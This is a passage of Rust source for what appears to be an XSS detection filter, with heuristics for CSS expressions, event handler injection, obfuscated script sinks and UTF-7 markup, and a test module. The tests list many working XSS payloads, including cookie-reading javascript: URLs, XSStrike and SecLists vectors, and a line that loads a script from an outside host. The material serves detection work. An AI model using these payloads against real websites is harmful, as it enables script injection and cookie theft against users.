        if let Ok(c) = u8::try_from(cp) {
            if c.is_ascii_graphic() {
                out[w] = c.to_ascii_lowercase();
                w += 1;
            }
        }
    }
    w
}

fn css_plain(s: &[u8]) -> bool {
    if find(s, b"-moz-binding").is_some() || find(s, b"behavior:").is_some() {
        return true;
    }
    // `behaviour: url(..)`, `binding: url(..)`: the same, spelled as IE and
    // old Gecko also accepted ("Binding: hardcover" has no url).
    for prop in [b"behaviour:" as &[u8], b"binding:"] {
        if let Some(p) = find(s, prop) {
            if s[p + prop.len()..].trim_ascii_start().starts_with(b"url(") {
                return true;
            }
        }
    }
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"expression(")) {
        let at = from + p;
        let before = s[..at].iter().rev().find(|&&b| !matches!(b, b' ' | b'+'));
        if matches!(before, Some(b':')) {
            return true;
        }
        from = at + 1;
    }
    false
}

/// `" onmouseover=alert(1)`, `' autofocus onfocus=confirm(1) x='` without a
/// tag: an event handler after a quote or slash whose value runs script.
fn loose_handler(s: &[u8]) -> bool {
    // After a quote or slash any call breaks out, and a known event handler
    // with any value or none does; without one (an unquoted attribute, `x
    // onerror=alert(1)`, or the value itself starting with the handler) only
    // a call to a script sink does.
    let first_quote = s.iter().position(|&b| b == b'"' || b == b'\'' || b == b'/');
    let mut i = 0;
    while let Some(p) = s.get(i..).and_then(|t| find(t, b"on")) {
        let at = i + p;
        i = at + 2;
        if at > 0
            && !matches!(
                s.get(at - 1),
                Some(b' ' | b'/' | b'"' | b'\'' | b'\n' | b'+' | b'`')
            )
        {
            continue;
        }
        let quoted = first_quote.is_some_and(|q| q < at);
        let mut j = at + 2;
        while j < s.len() && s[j].is_ascii_lowercase() {
            j += 1;
        }
        if j - at < 5 || j - at > 42 {
            continue;
        }
        let name = &s[at + 2..j];
        while matches!(s.get(j), Some(b' ' | b'\n' | b'+')) {
            j += 1;
        }
        if s.get(j) != Some(&b'=') {
            continue;
        }
        let value = &s[j + 1..s.len().min(j + 200)];
        if quoted && (calls(value) || value.contains(&b'`')) {
            return true;
        }
        // `" type=image src=x onerror=KCF "`: a real handler after a quote,
        // also with the value still to come (`"onzoom=`, the probe that
        // tests whether the quote and the handler get through).
        let value = value.trim_ascii_start();
        if quoted
            && value.first().is_none_or(|b| !matches!(b, b'"' | b'\''))
            && HANDLERS.binary_search(&name).is_ok()
        {
            return true;
        }
        if !quoted && SINKS.found_in(value) && (calls(value) || value.contains(&b'`')) {
            return true;
        }
    }
    false
}

/// A value that is itself a call of a dialog or eval sink, as injected
/// into a script context: `alert(1)`, `(confirm)(1)`, `prompt\`1\``,
/// `confirm.call(null,1)`, `eval(atob("..."))`.
fn bare_sink_call(s: &[u8]) -> bool {
    let mut i = 0;
    // `+alert(0)+`, `-confirm(1)-`, `!prompt(1)`: also after the operators
    // of a value written into a script unquoted.
    while matches!(
        s.get(i),
        Some(b'(' | b' ' | b'[' | b'{' | b'}' | b';' | b'/' | b'+' | b'-' | b'!' | b'~' | b'*')
    ) {
        i += 1;
    }
    let rest = &s[i..];
    // `setTimeout("..")`, `setInterval('..', 9)`: eval with a delay.
    if [b"settimeout(" as &[u8], b"setinterval("]
        .iter()
        .filter_map(|w| rest.strip_prefix(*w))
        .any(|arg| matches!(arg.trim_ascii_start().first(), Some(b'"' | b'\'' | b'`')))
    {
        return true;
    }
    [b"alert" as &[u8], b"prompt", b"confirm", b"eval"]
        .iter()
        .filter_map(|w| rest.strip_prefix(*w))
        .any(|after| {
            let after = after.strip_prefix(b")").unwrap_or(after);
            after.starts_with(b"(")
                || after.starts_with(b"`")
                || after.starts_with(b".call(")
                || after.starts_with(b".apply(")
                || after.starts_with(b".bind(")
        })
}

/// Event handler names without the `on`: HTML, SVG and the DOM's, and the
/// old IE and WebKit ones attribute injections still use (`onzoom`,
/// `onwebkitplaybacktargetavailabilitychanged`). Sorted: binary search.
const HANDLERS: &[&[u8]] = &[
    b"abort",
    b"activate",
    b"afterprint",
    b"afterscriptexecute",
    b"animationcancel",
    b"animationend",
    b"animationiteration",
    b"animationstart",
    b"auxclick",
    b"beforeactivate",
    b"beforecopy",
    b"beforecut",
    b"beforedeactivate",
    b"beforeeditfocus",
    b"beforeinput",
    b"beforepaste",
    b"beforeprint",
    b"beforescriptexecute",
    b"beforetoggle",
    b"beforeunload",
    b"begin",
    b"blur",
    b"bounce",
    b"cancel",
    b"canplay",
    b"canplaythrough",
    b"cellchange",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"controlselect",
    b"copy",
    b"cuechange",
    b"cut",
    b"dataavailable",
    b"datasetchanged",
    b"datasetcomplete",
    b"dblclick",
    b"deactivate",
    b"drag",
    b"dragend",
    b"dragenter",
    b"dragexit",
    b"dragleave",
    b"dragover",
    b"dragstart",
    b"drop",
    b"durationchange",
    b"emptied",
    b"end",
    b"ended",
    b"error",
    b"errorupdate",
    b"filterchange",
    b"finish",
    b"focus",
    b"focusin",
    b"focusout",
    b"formdata",
    b"fullscreenchange",
    b"fullscreenerror",
    b"gotpointercapture",
    b"hashchange",
    b"help",
    b"input",
    b"invalid",
    b"keydown",
    b"keypress",
    b"keyup",
    b"layoutcomplete",
    b"load",
    b"loadeddata",
    b"loadedmetadata",
    b"loadend",
    b"loadstart",
    b"losecapture",
    b"lostpointercapture",
    b"message",
    b"messageerror",
    b"mousedown",
    b"mouseenter",
    b"mouseleave",
    b"mousemove",
    b"mouseout",
    b"mouseover",
    b"mouseup",
    b"mousewheel",
    b"move",
    b"moveend",
    b"movestart",
    b"mozfullscreenchange",
    b"offline",
    b"online",
    b"pagehide",
    b"pagereveal",
    b"pageshow",
    b"pageswap",
    b"paste",
    b"pause",
    b"play",
    b"playing",
    b"pointercancel",
    b"pointerdown",
    b"pointerenter",
    b"pointerleave",
    b"pointermove",
    b"pointerout",
    b"pointerover",
    b"pointerrawupdate",
    b"pointerup",
    b"popstate",
    b"progress",
    b"propertychange",
    b"ratechange",
    b"readystatechange",
    b"repeat",
    b"reset",
    b"resize",
    b"resizeend",
    b"resizestart",
    b"rowenter",
    b"rowexit",
    b"rowsdelete",
    b"rowsinserted",
    b"scroll",
    b"scrollend",
    b"search",
    b"securitypolicyviolation",
    b"seeked",
    b"seeking",
    b"select",
    b"selectionchange",
    b"selectstart",
    b"show",
    b"slotchange",
    b"stalled",
    b"start",
    b"storage",
    b"submit",
    b"suspend",
    b"timer",
    b"timeupdate",
    b"toggle",
    b"touchcancel",
    b"touchend",
    b"touchmove",
    b"touchstart",
    b"transitioncancel",
    b"transitionend",
    b"transitionrun",
    b"transitionstart",
    b"unhandledrejection",
    b"unload",
    b"volumechange",
    b"waiting",
    b"webkitanimationend",
    b"webkitanimationiteration",
    b"webkitanimationstart",
    b"webkitmouseforcechanged",
    b"webkitmouseforcedown",
    b"webkitmouseforceup",
    b"webkitmouseforcewillbegin",
    b"webkitplaybacktargetavailabilitychanged",
    b"webkittransitionend",
    b"webkitwillrevealbottom",
    b"wheel",
    b"zoom",
];

/// A dialog or eval sink used as a value rather than called by name, the
/// forms filters that look for `alert(` miss: passed as a callback
/// (`[8].find(confirm)`, `.map(eval)`), interpolated (`${alert}`), assigned
/// and called (`a=prompt,a()`), fetched by a computed name (`top['alert'](1)`,
/// `self[ "alert" ]`), or a tagged template (`` [].sort.call`..` ``); JSFuck
/// (`![]+[]`, `+!+[]`); document.cookie read into an expression or written;
/// and markup in an encoding a browser turns back into tags (UTF-7
/// `+ADw-script+AD4-`, the US-ASCII high-bit `\xbcscript\xbe`). One pass of
/// [`REFS`] over the field; each hit looks at a few neighbouring bytes.
fn sink_reference(s: &[u8]) -> bool {
    REFS.any_match(s, |needle, at| match needle {
        b".call" => s[at + 5..].trim_ascii_start().starts_with(b"`"),
        b"!+[]" | b"![]+[]" => true,
        b"document" => cookie_access(s, at),
        b"adw-" => utf7_tag_at(s, at),
        b"\xc2\xbcscript" | b"\xbcscript" => true,
        sink => sink_as_value(s, sink, at),
    })
}

/// `+ADw-p+AD4-`: a tag in UTF-7 (`+ADw-` is `<`, `+AD4-` is `>`), at `at`.
fn utf7_tag_at(s: &[u8], at: usize) -> bool {
    let name = &s[at + 4..];
    (name.first().is_some_and(u8::is_ascii_alphabetic) || name.starts_with(b"/"))
        && find(&name[..name.len().min(64)], b"ad4-").is_some()
}

/// Any UTF-7 tag, also without a call or quote in the field (markup in
/// UTF-7 is never text: it waits for a page read as UTF-7).
fn utf7_tag(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"adw-")) {
        let at = from + p;
        if utf7_tag_at(s, at) {
            return true;
        }
        from = at + 4;
    }
    false
}

const REFS: Needles = Needles::new(&[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b".call",
    b"!+[]",
    b"![]+[]",
    b"document",
    b"adw-",
    b"\xc2\xbcscript",
    b"\xbcscript",
]);

fn sink_as_value(s: &[u8], sink: &[u8], at: usize) -> bool {
    let glued = |k: usize| {
        s.get(k)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
    };
    let end = at + sink.len();
    // `window.alert(1)`, `top.confirm\`1\``, `x.parentwindow.alert(2)`: the
    // sink called on the global object under one of its names.
    if at > 0 && s[at - 1] == b'.' && matches!(s.get(end), Some(b'(' | b'`')) {
        let obj = &s[..at - 1];
        let word = obj
            .iter()
            .rposition(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
            .map_or(obj, |p| &obj[p + 1..]);
        if matches!(
            word,
            b"window"
                | b"self"
                | b"top"
                | b"parent"
                | b"frames"
                | b"globalthis"
                | b"opener"
                | b"parentwindow"
                | b"content"
        ) {
            return true;
        }
    }
    if (at > 0 && glued(at - 1)) || (glued(end) && s[end] != b'.') {
        return false;
    }
    // Neighbours, skipping the spaces comments leave (`[ /**/ "alert"]`).
    let back = |k: usize| s[..k].iter().rposition(|&b| b != b' ');
    let fwd = |k: usize| s[k..].iter().position(|&b| b != b' ').map(|p| k + p);
    let before_at = back(at);
    let before = before_at.map(|k| s[k]);
    let before2 = before_at.and_then(back).map(|k| s[k]);
    let after_at = fwd(end);
    match (before, after_at.map(|k| s[k])) {
        // `find(confirm)`: a call's argument, the call glued to its name.
        (Some(b'('), Some(b')' | b',')) => {
            at >= 2 && s[at - 1] == b'(' && (s[at - 2].is_ascii_alphanumeric() || s[at - 2] == b'_')
        }
        (Some(b'{'), Some(b'}')) => before2 == Some(b'$'),
        // `a=prompt,a()`, `x=eval;x(..)`
        (Some(b'='), Some(b',' | b';')) => s[at..]
            .windows(2)
            .any(|w| w[1] == b'(' && w[0].is_ascii_alphanumeric()),
        // `['alert'](1)`, `["eval"]("..")`
        (Some(b'\'' | b'"'), Some(b'\'' | b'"')) => {
            let close = after_at.and_then(|k| fwd(k + 1));
            let call = close.and_then(|k| fwd(k + 1)).map(|k| s[k]);
            before2 == Some(b'[')
                && close.map(|k| s[k]) == Some(b']')
                && matches!(call, Some(b'(' | b'`'))
        }
        _ => false,
    }
}

/// `(document.cookie)`, `+document.cookie`, `document["cookie"]=..`: the
/// cookie read into an expression or written; prose mentions it bare.
/// Spaces or a `)` between the name and the property (`document /*x*/ .
/// cookie`, `(document/**/)["cookie"]`) are obfuscation nobody writes in
/// prose: flagged unless a word comes before ("the document . cookie").
fn cookie_access(s: &[u8], at: usize) -> bool {
    let after = &s[at + 8..];
    let gap = |t: &[u8]| {
        t.iter()
            .take_while(|b| matches!(b, b' ' | b'\n' | b')'))
            .count()
    };
    let skip = gap(after);
    let prop = &after[skip..];
    let (rest, spread) = if let Some(p) = prop.strip_prefix(b".") {
        let inner = gap(p);
        // `alert(document.domain)`: the proof-of-concept's argument.
        match p[inner..]
            .strip_prefix(b"cookie")
            .or_else(|| p[inner..].strip_prefix(b"domain"))
        {
            Some(r) => (r, skip + inner > 0),
            None => return false,
        }
    } else {
        let Some(p) = prop.strip_prefix(b"[") else {
            return false;
        };
        let p = p.trim_ascii_start();
        let Some(r) = [b"\"cookie\"" as &[u8], b"'cookie'"]
            .iter()
            .find_map(|q| p.strip_prefix(*q))
        else {
            return false;
        };
        let Some(r) = r.trim_ascii_start().strip_prefix(b"]") else {
            return false;
        };
        (r, skip > 0)
    };
    let before = s[..at].iter().rev().find(|&&b| b != b' ').copied();
    if spread && !before.is_some_and(|b| b.is_ascii_alphanumeric()) {
        return true;
    }
    let tail = rest.trim_ascii_start();
    matches!(before, Some(b'(' | b'+' | b'=' | b',' | b'[' | b'`' | b'{'))
        || (tail.starts_with(b"=") && !tail.starts_with(b"=="))
}

/// Script sinks an injected string calls.
const SINKS: Needles = Needles::new(&[
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"fetch",
    b"atob",
    b"fromcharcode",
    b"document.write",
    b"print",
    b"import",
    b"function",
]);

/// `';alert(1)//`, `"-prompt(1)-"`, `</title><svg>`, `\";confirm(1)//`: a sink
/// call right after a quote and JavaScript punctuation.
fn js_breakout(s: &[u8]) -> bool {
    SINKS.any_match(s, |sink, at| {
        let after = s.get(at + sink.len()).copied();
        if !matches!(after, Some(b'(' | b'`'))
            || s.get(at.wrapping_sub(1))
                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        {
            return false;
        }
        // Walk back over JavaScript punctuation to the quote that broke out.
        // Without a quote, a dialog or eval call as a statement of its own
        // after `;` (`a29b1;alert(888)//`: a value written into a script
        // unquoted) breaks out too.
        let mut k = at;
        let (mut punct, mut semi) = (false, false);
        let dialog = matches!(sink, b"alert" | b"prompt" | b"confirm" | b"eval");
        while k > 0 {
            let b = s[k - 1];
            semi |= b == b';';
            match b {
                b'\'' | b'"' | b'`' | b'>' => return punct || b == b'>' || k - 1 == 0,
                // `';if(1){alert(1)}`: a statement after `;` that
                // reaches the call through a condition or a block.
                _ if b.is_ascii_alphanumeric() && dialog => {
                    return semi || s[k.saturating_sub(64)..k].contains(&b';')
                }
                b';' | b'+' | b'-' | b'*' | b'/' | b'|' | b'&' | b'^' | b'%' | b',' | b'('
                | b')' | b'=' | b'{' | b'}' | b'!' | b'~' | b'?' | b':' => punct = true,
                b' ' | b'\n' | b'\\' => {}
                _ => return false,
            }
            k -= 1;
        }
        false
    })
}

#[cfg(test)]
mod tests {
    use super::super::normalize::{normalize, Encoding, WINDOW};
    use super::*;

    fn xss(raw: &str) -> bool {
        let mut buf = [0u8; WINDOW];
        detect(&normalize(raw.as_bytes(), Encoding::FORM, &mut buf))
    }

    #[test]
    fn payloads() {
        for p in [
            "<script>alert(1)</script>",
            "\"><svg/onload=confirm(1)>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "javascript:alert(document.cookie)",
            "';alert(String.fromCharCode(88,83,83))//",
            "\"-prompt(1)-\"",
            "<div style=\"width:expression(alert(1))\">",
            "\" autofocus onfocus=alert(1) x=\"",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "</title><script>alert(1)</script>",
            "%253Cscript%253Ealert(1)%253C/script%253E",
            "<div style=\"xss:\\0065xpression(alert(1))\">",
            "<p style=\"w:exp\\ression(x)\">",
            // XSStrike's vectors: the tag name and the handler split by a
            // tab, CR, LF or `/+/`, and a literal `+` around the `=`.
            "<A%09ONPoINTerENTER%2B=%2Bconfirm()%0dx//",
            "<D3V%0donMoUSEOvEr%2B=%2B(prompt)``//",
            "<DETAILs/%2B/ONTOgGlE%2B=%2B(confirm)()//",
            "<html%0aoNmOuSEOVER%2B=%2Bconfirm()//",
            "\" onfocus%2B=%2Balert(1) autofocus x=\"",
            // SecLists' script-context vectors (session 18).
            "top[/al/.source%2B/ert/.source](1)",
            "top[8680439..toString(30)](1)",
            "self[atob(\"YWxlcnQ=\")](1)",
            "with(document)alert(1)",
            "with(location)with(hash)eval(substring(1))",
            "appendChild(createElement('script')).src='//h.example/x'",
            "%2Balert(0)%2B",
        ] {
            assert!(xss(p), "{p}");
        }
    }

    #[test]
    fn handlers_sorted() {
        assert!(HANDLERS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn benign_markup_and_text() {
        for p in [
            "<p>Hello <b>world</b></p>",
            "<a href=\"https://example.com/x?a=1\">link</a>",
            "<img src=\"https://cdn.example.com/a.png\" alt=\"cat\">",
            "javascript: the good parts",
            "x < y and y > z",
            "I <3 you",
            "please confirm (yes/no)",
            "call on=monday",
            "Use `alert()` in the console",
            "<b>c++</b> and on+=1 in the loop",
            "<p>a online+=b</p>",
            "see top[the docs](https://example.com/docs)",
            "top[1] and self[2]",
            "written with(document) in mind",
            "createElement is a DOM method",
            "- prompt (1) for the user",
            "+1 (555) 010-2030",
        ] {
            assert!(!xss(p), "{p}");
        }
    }
}
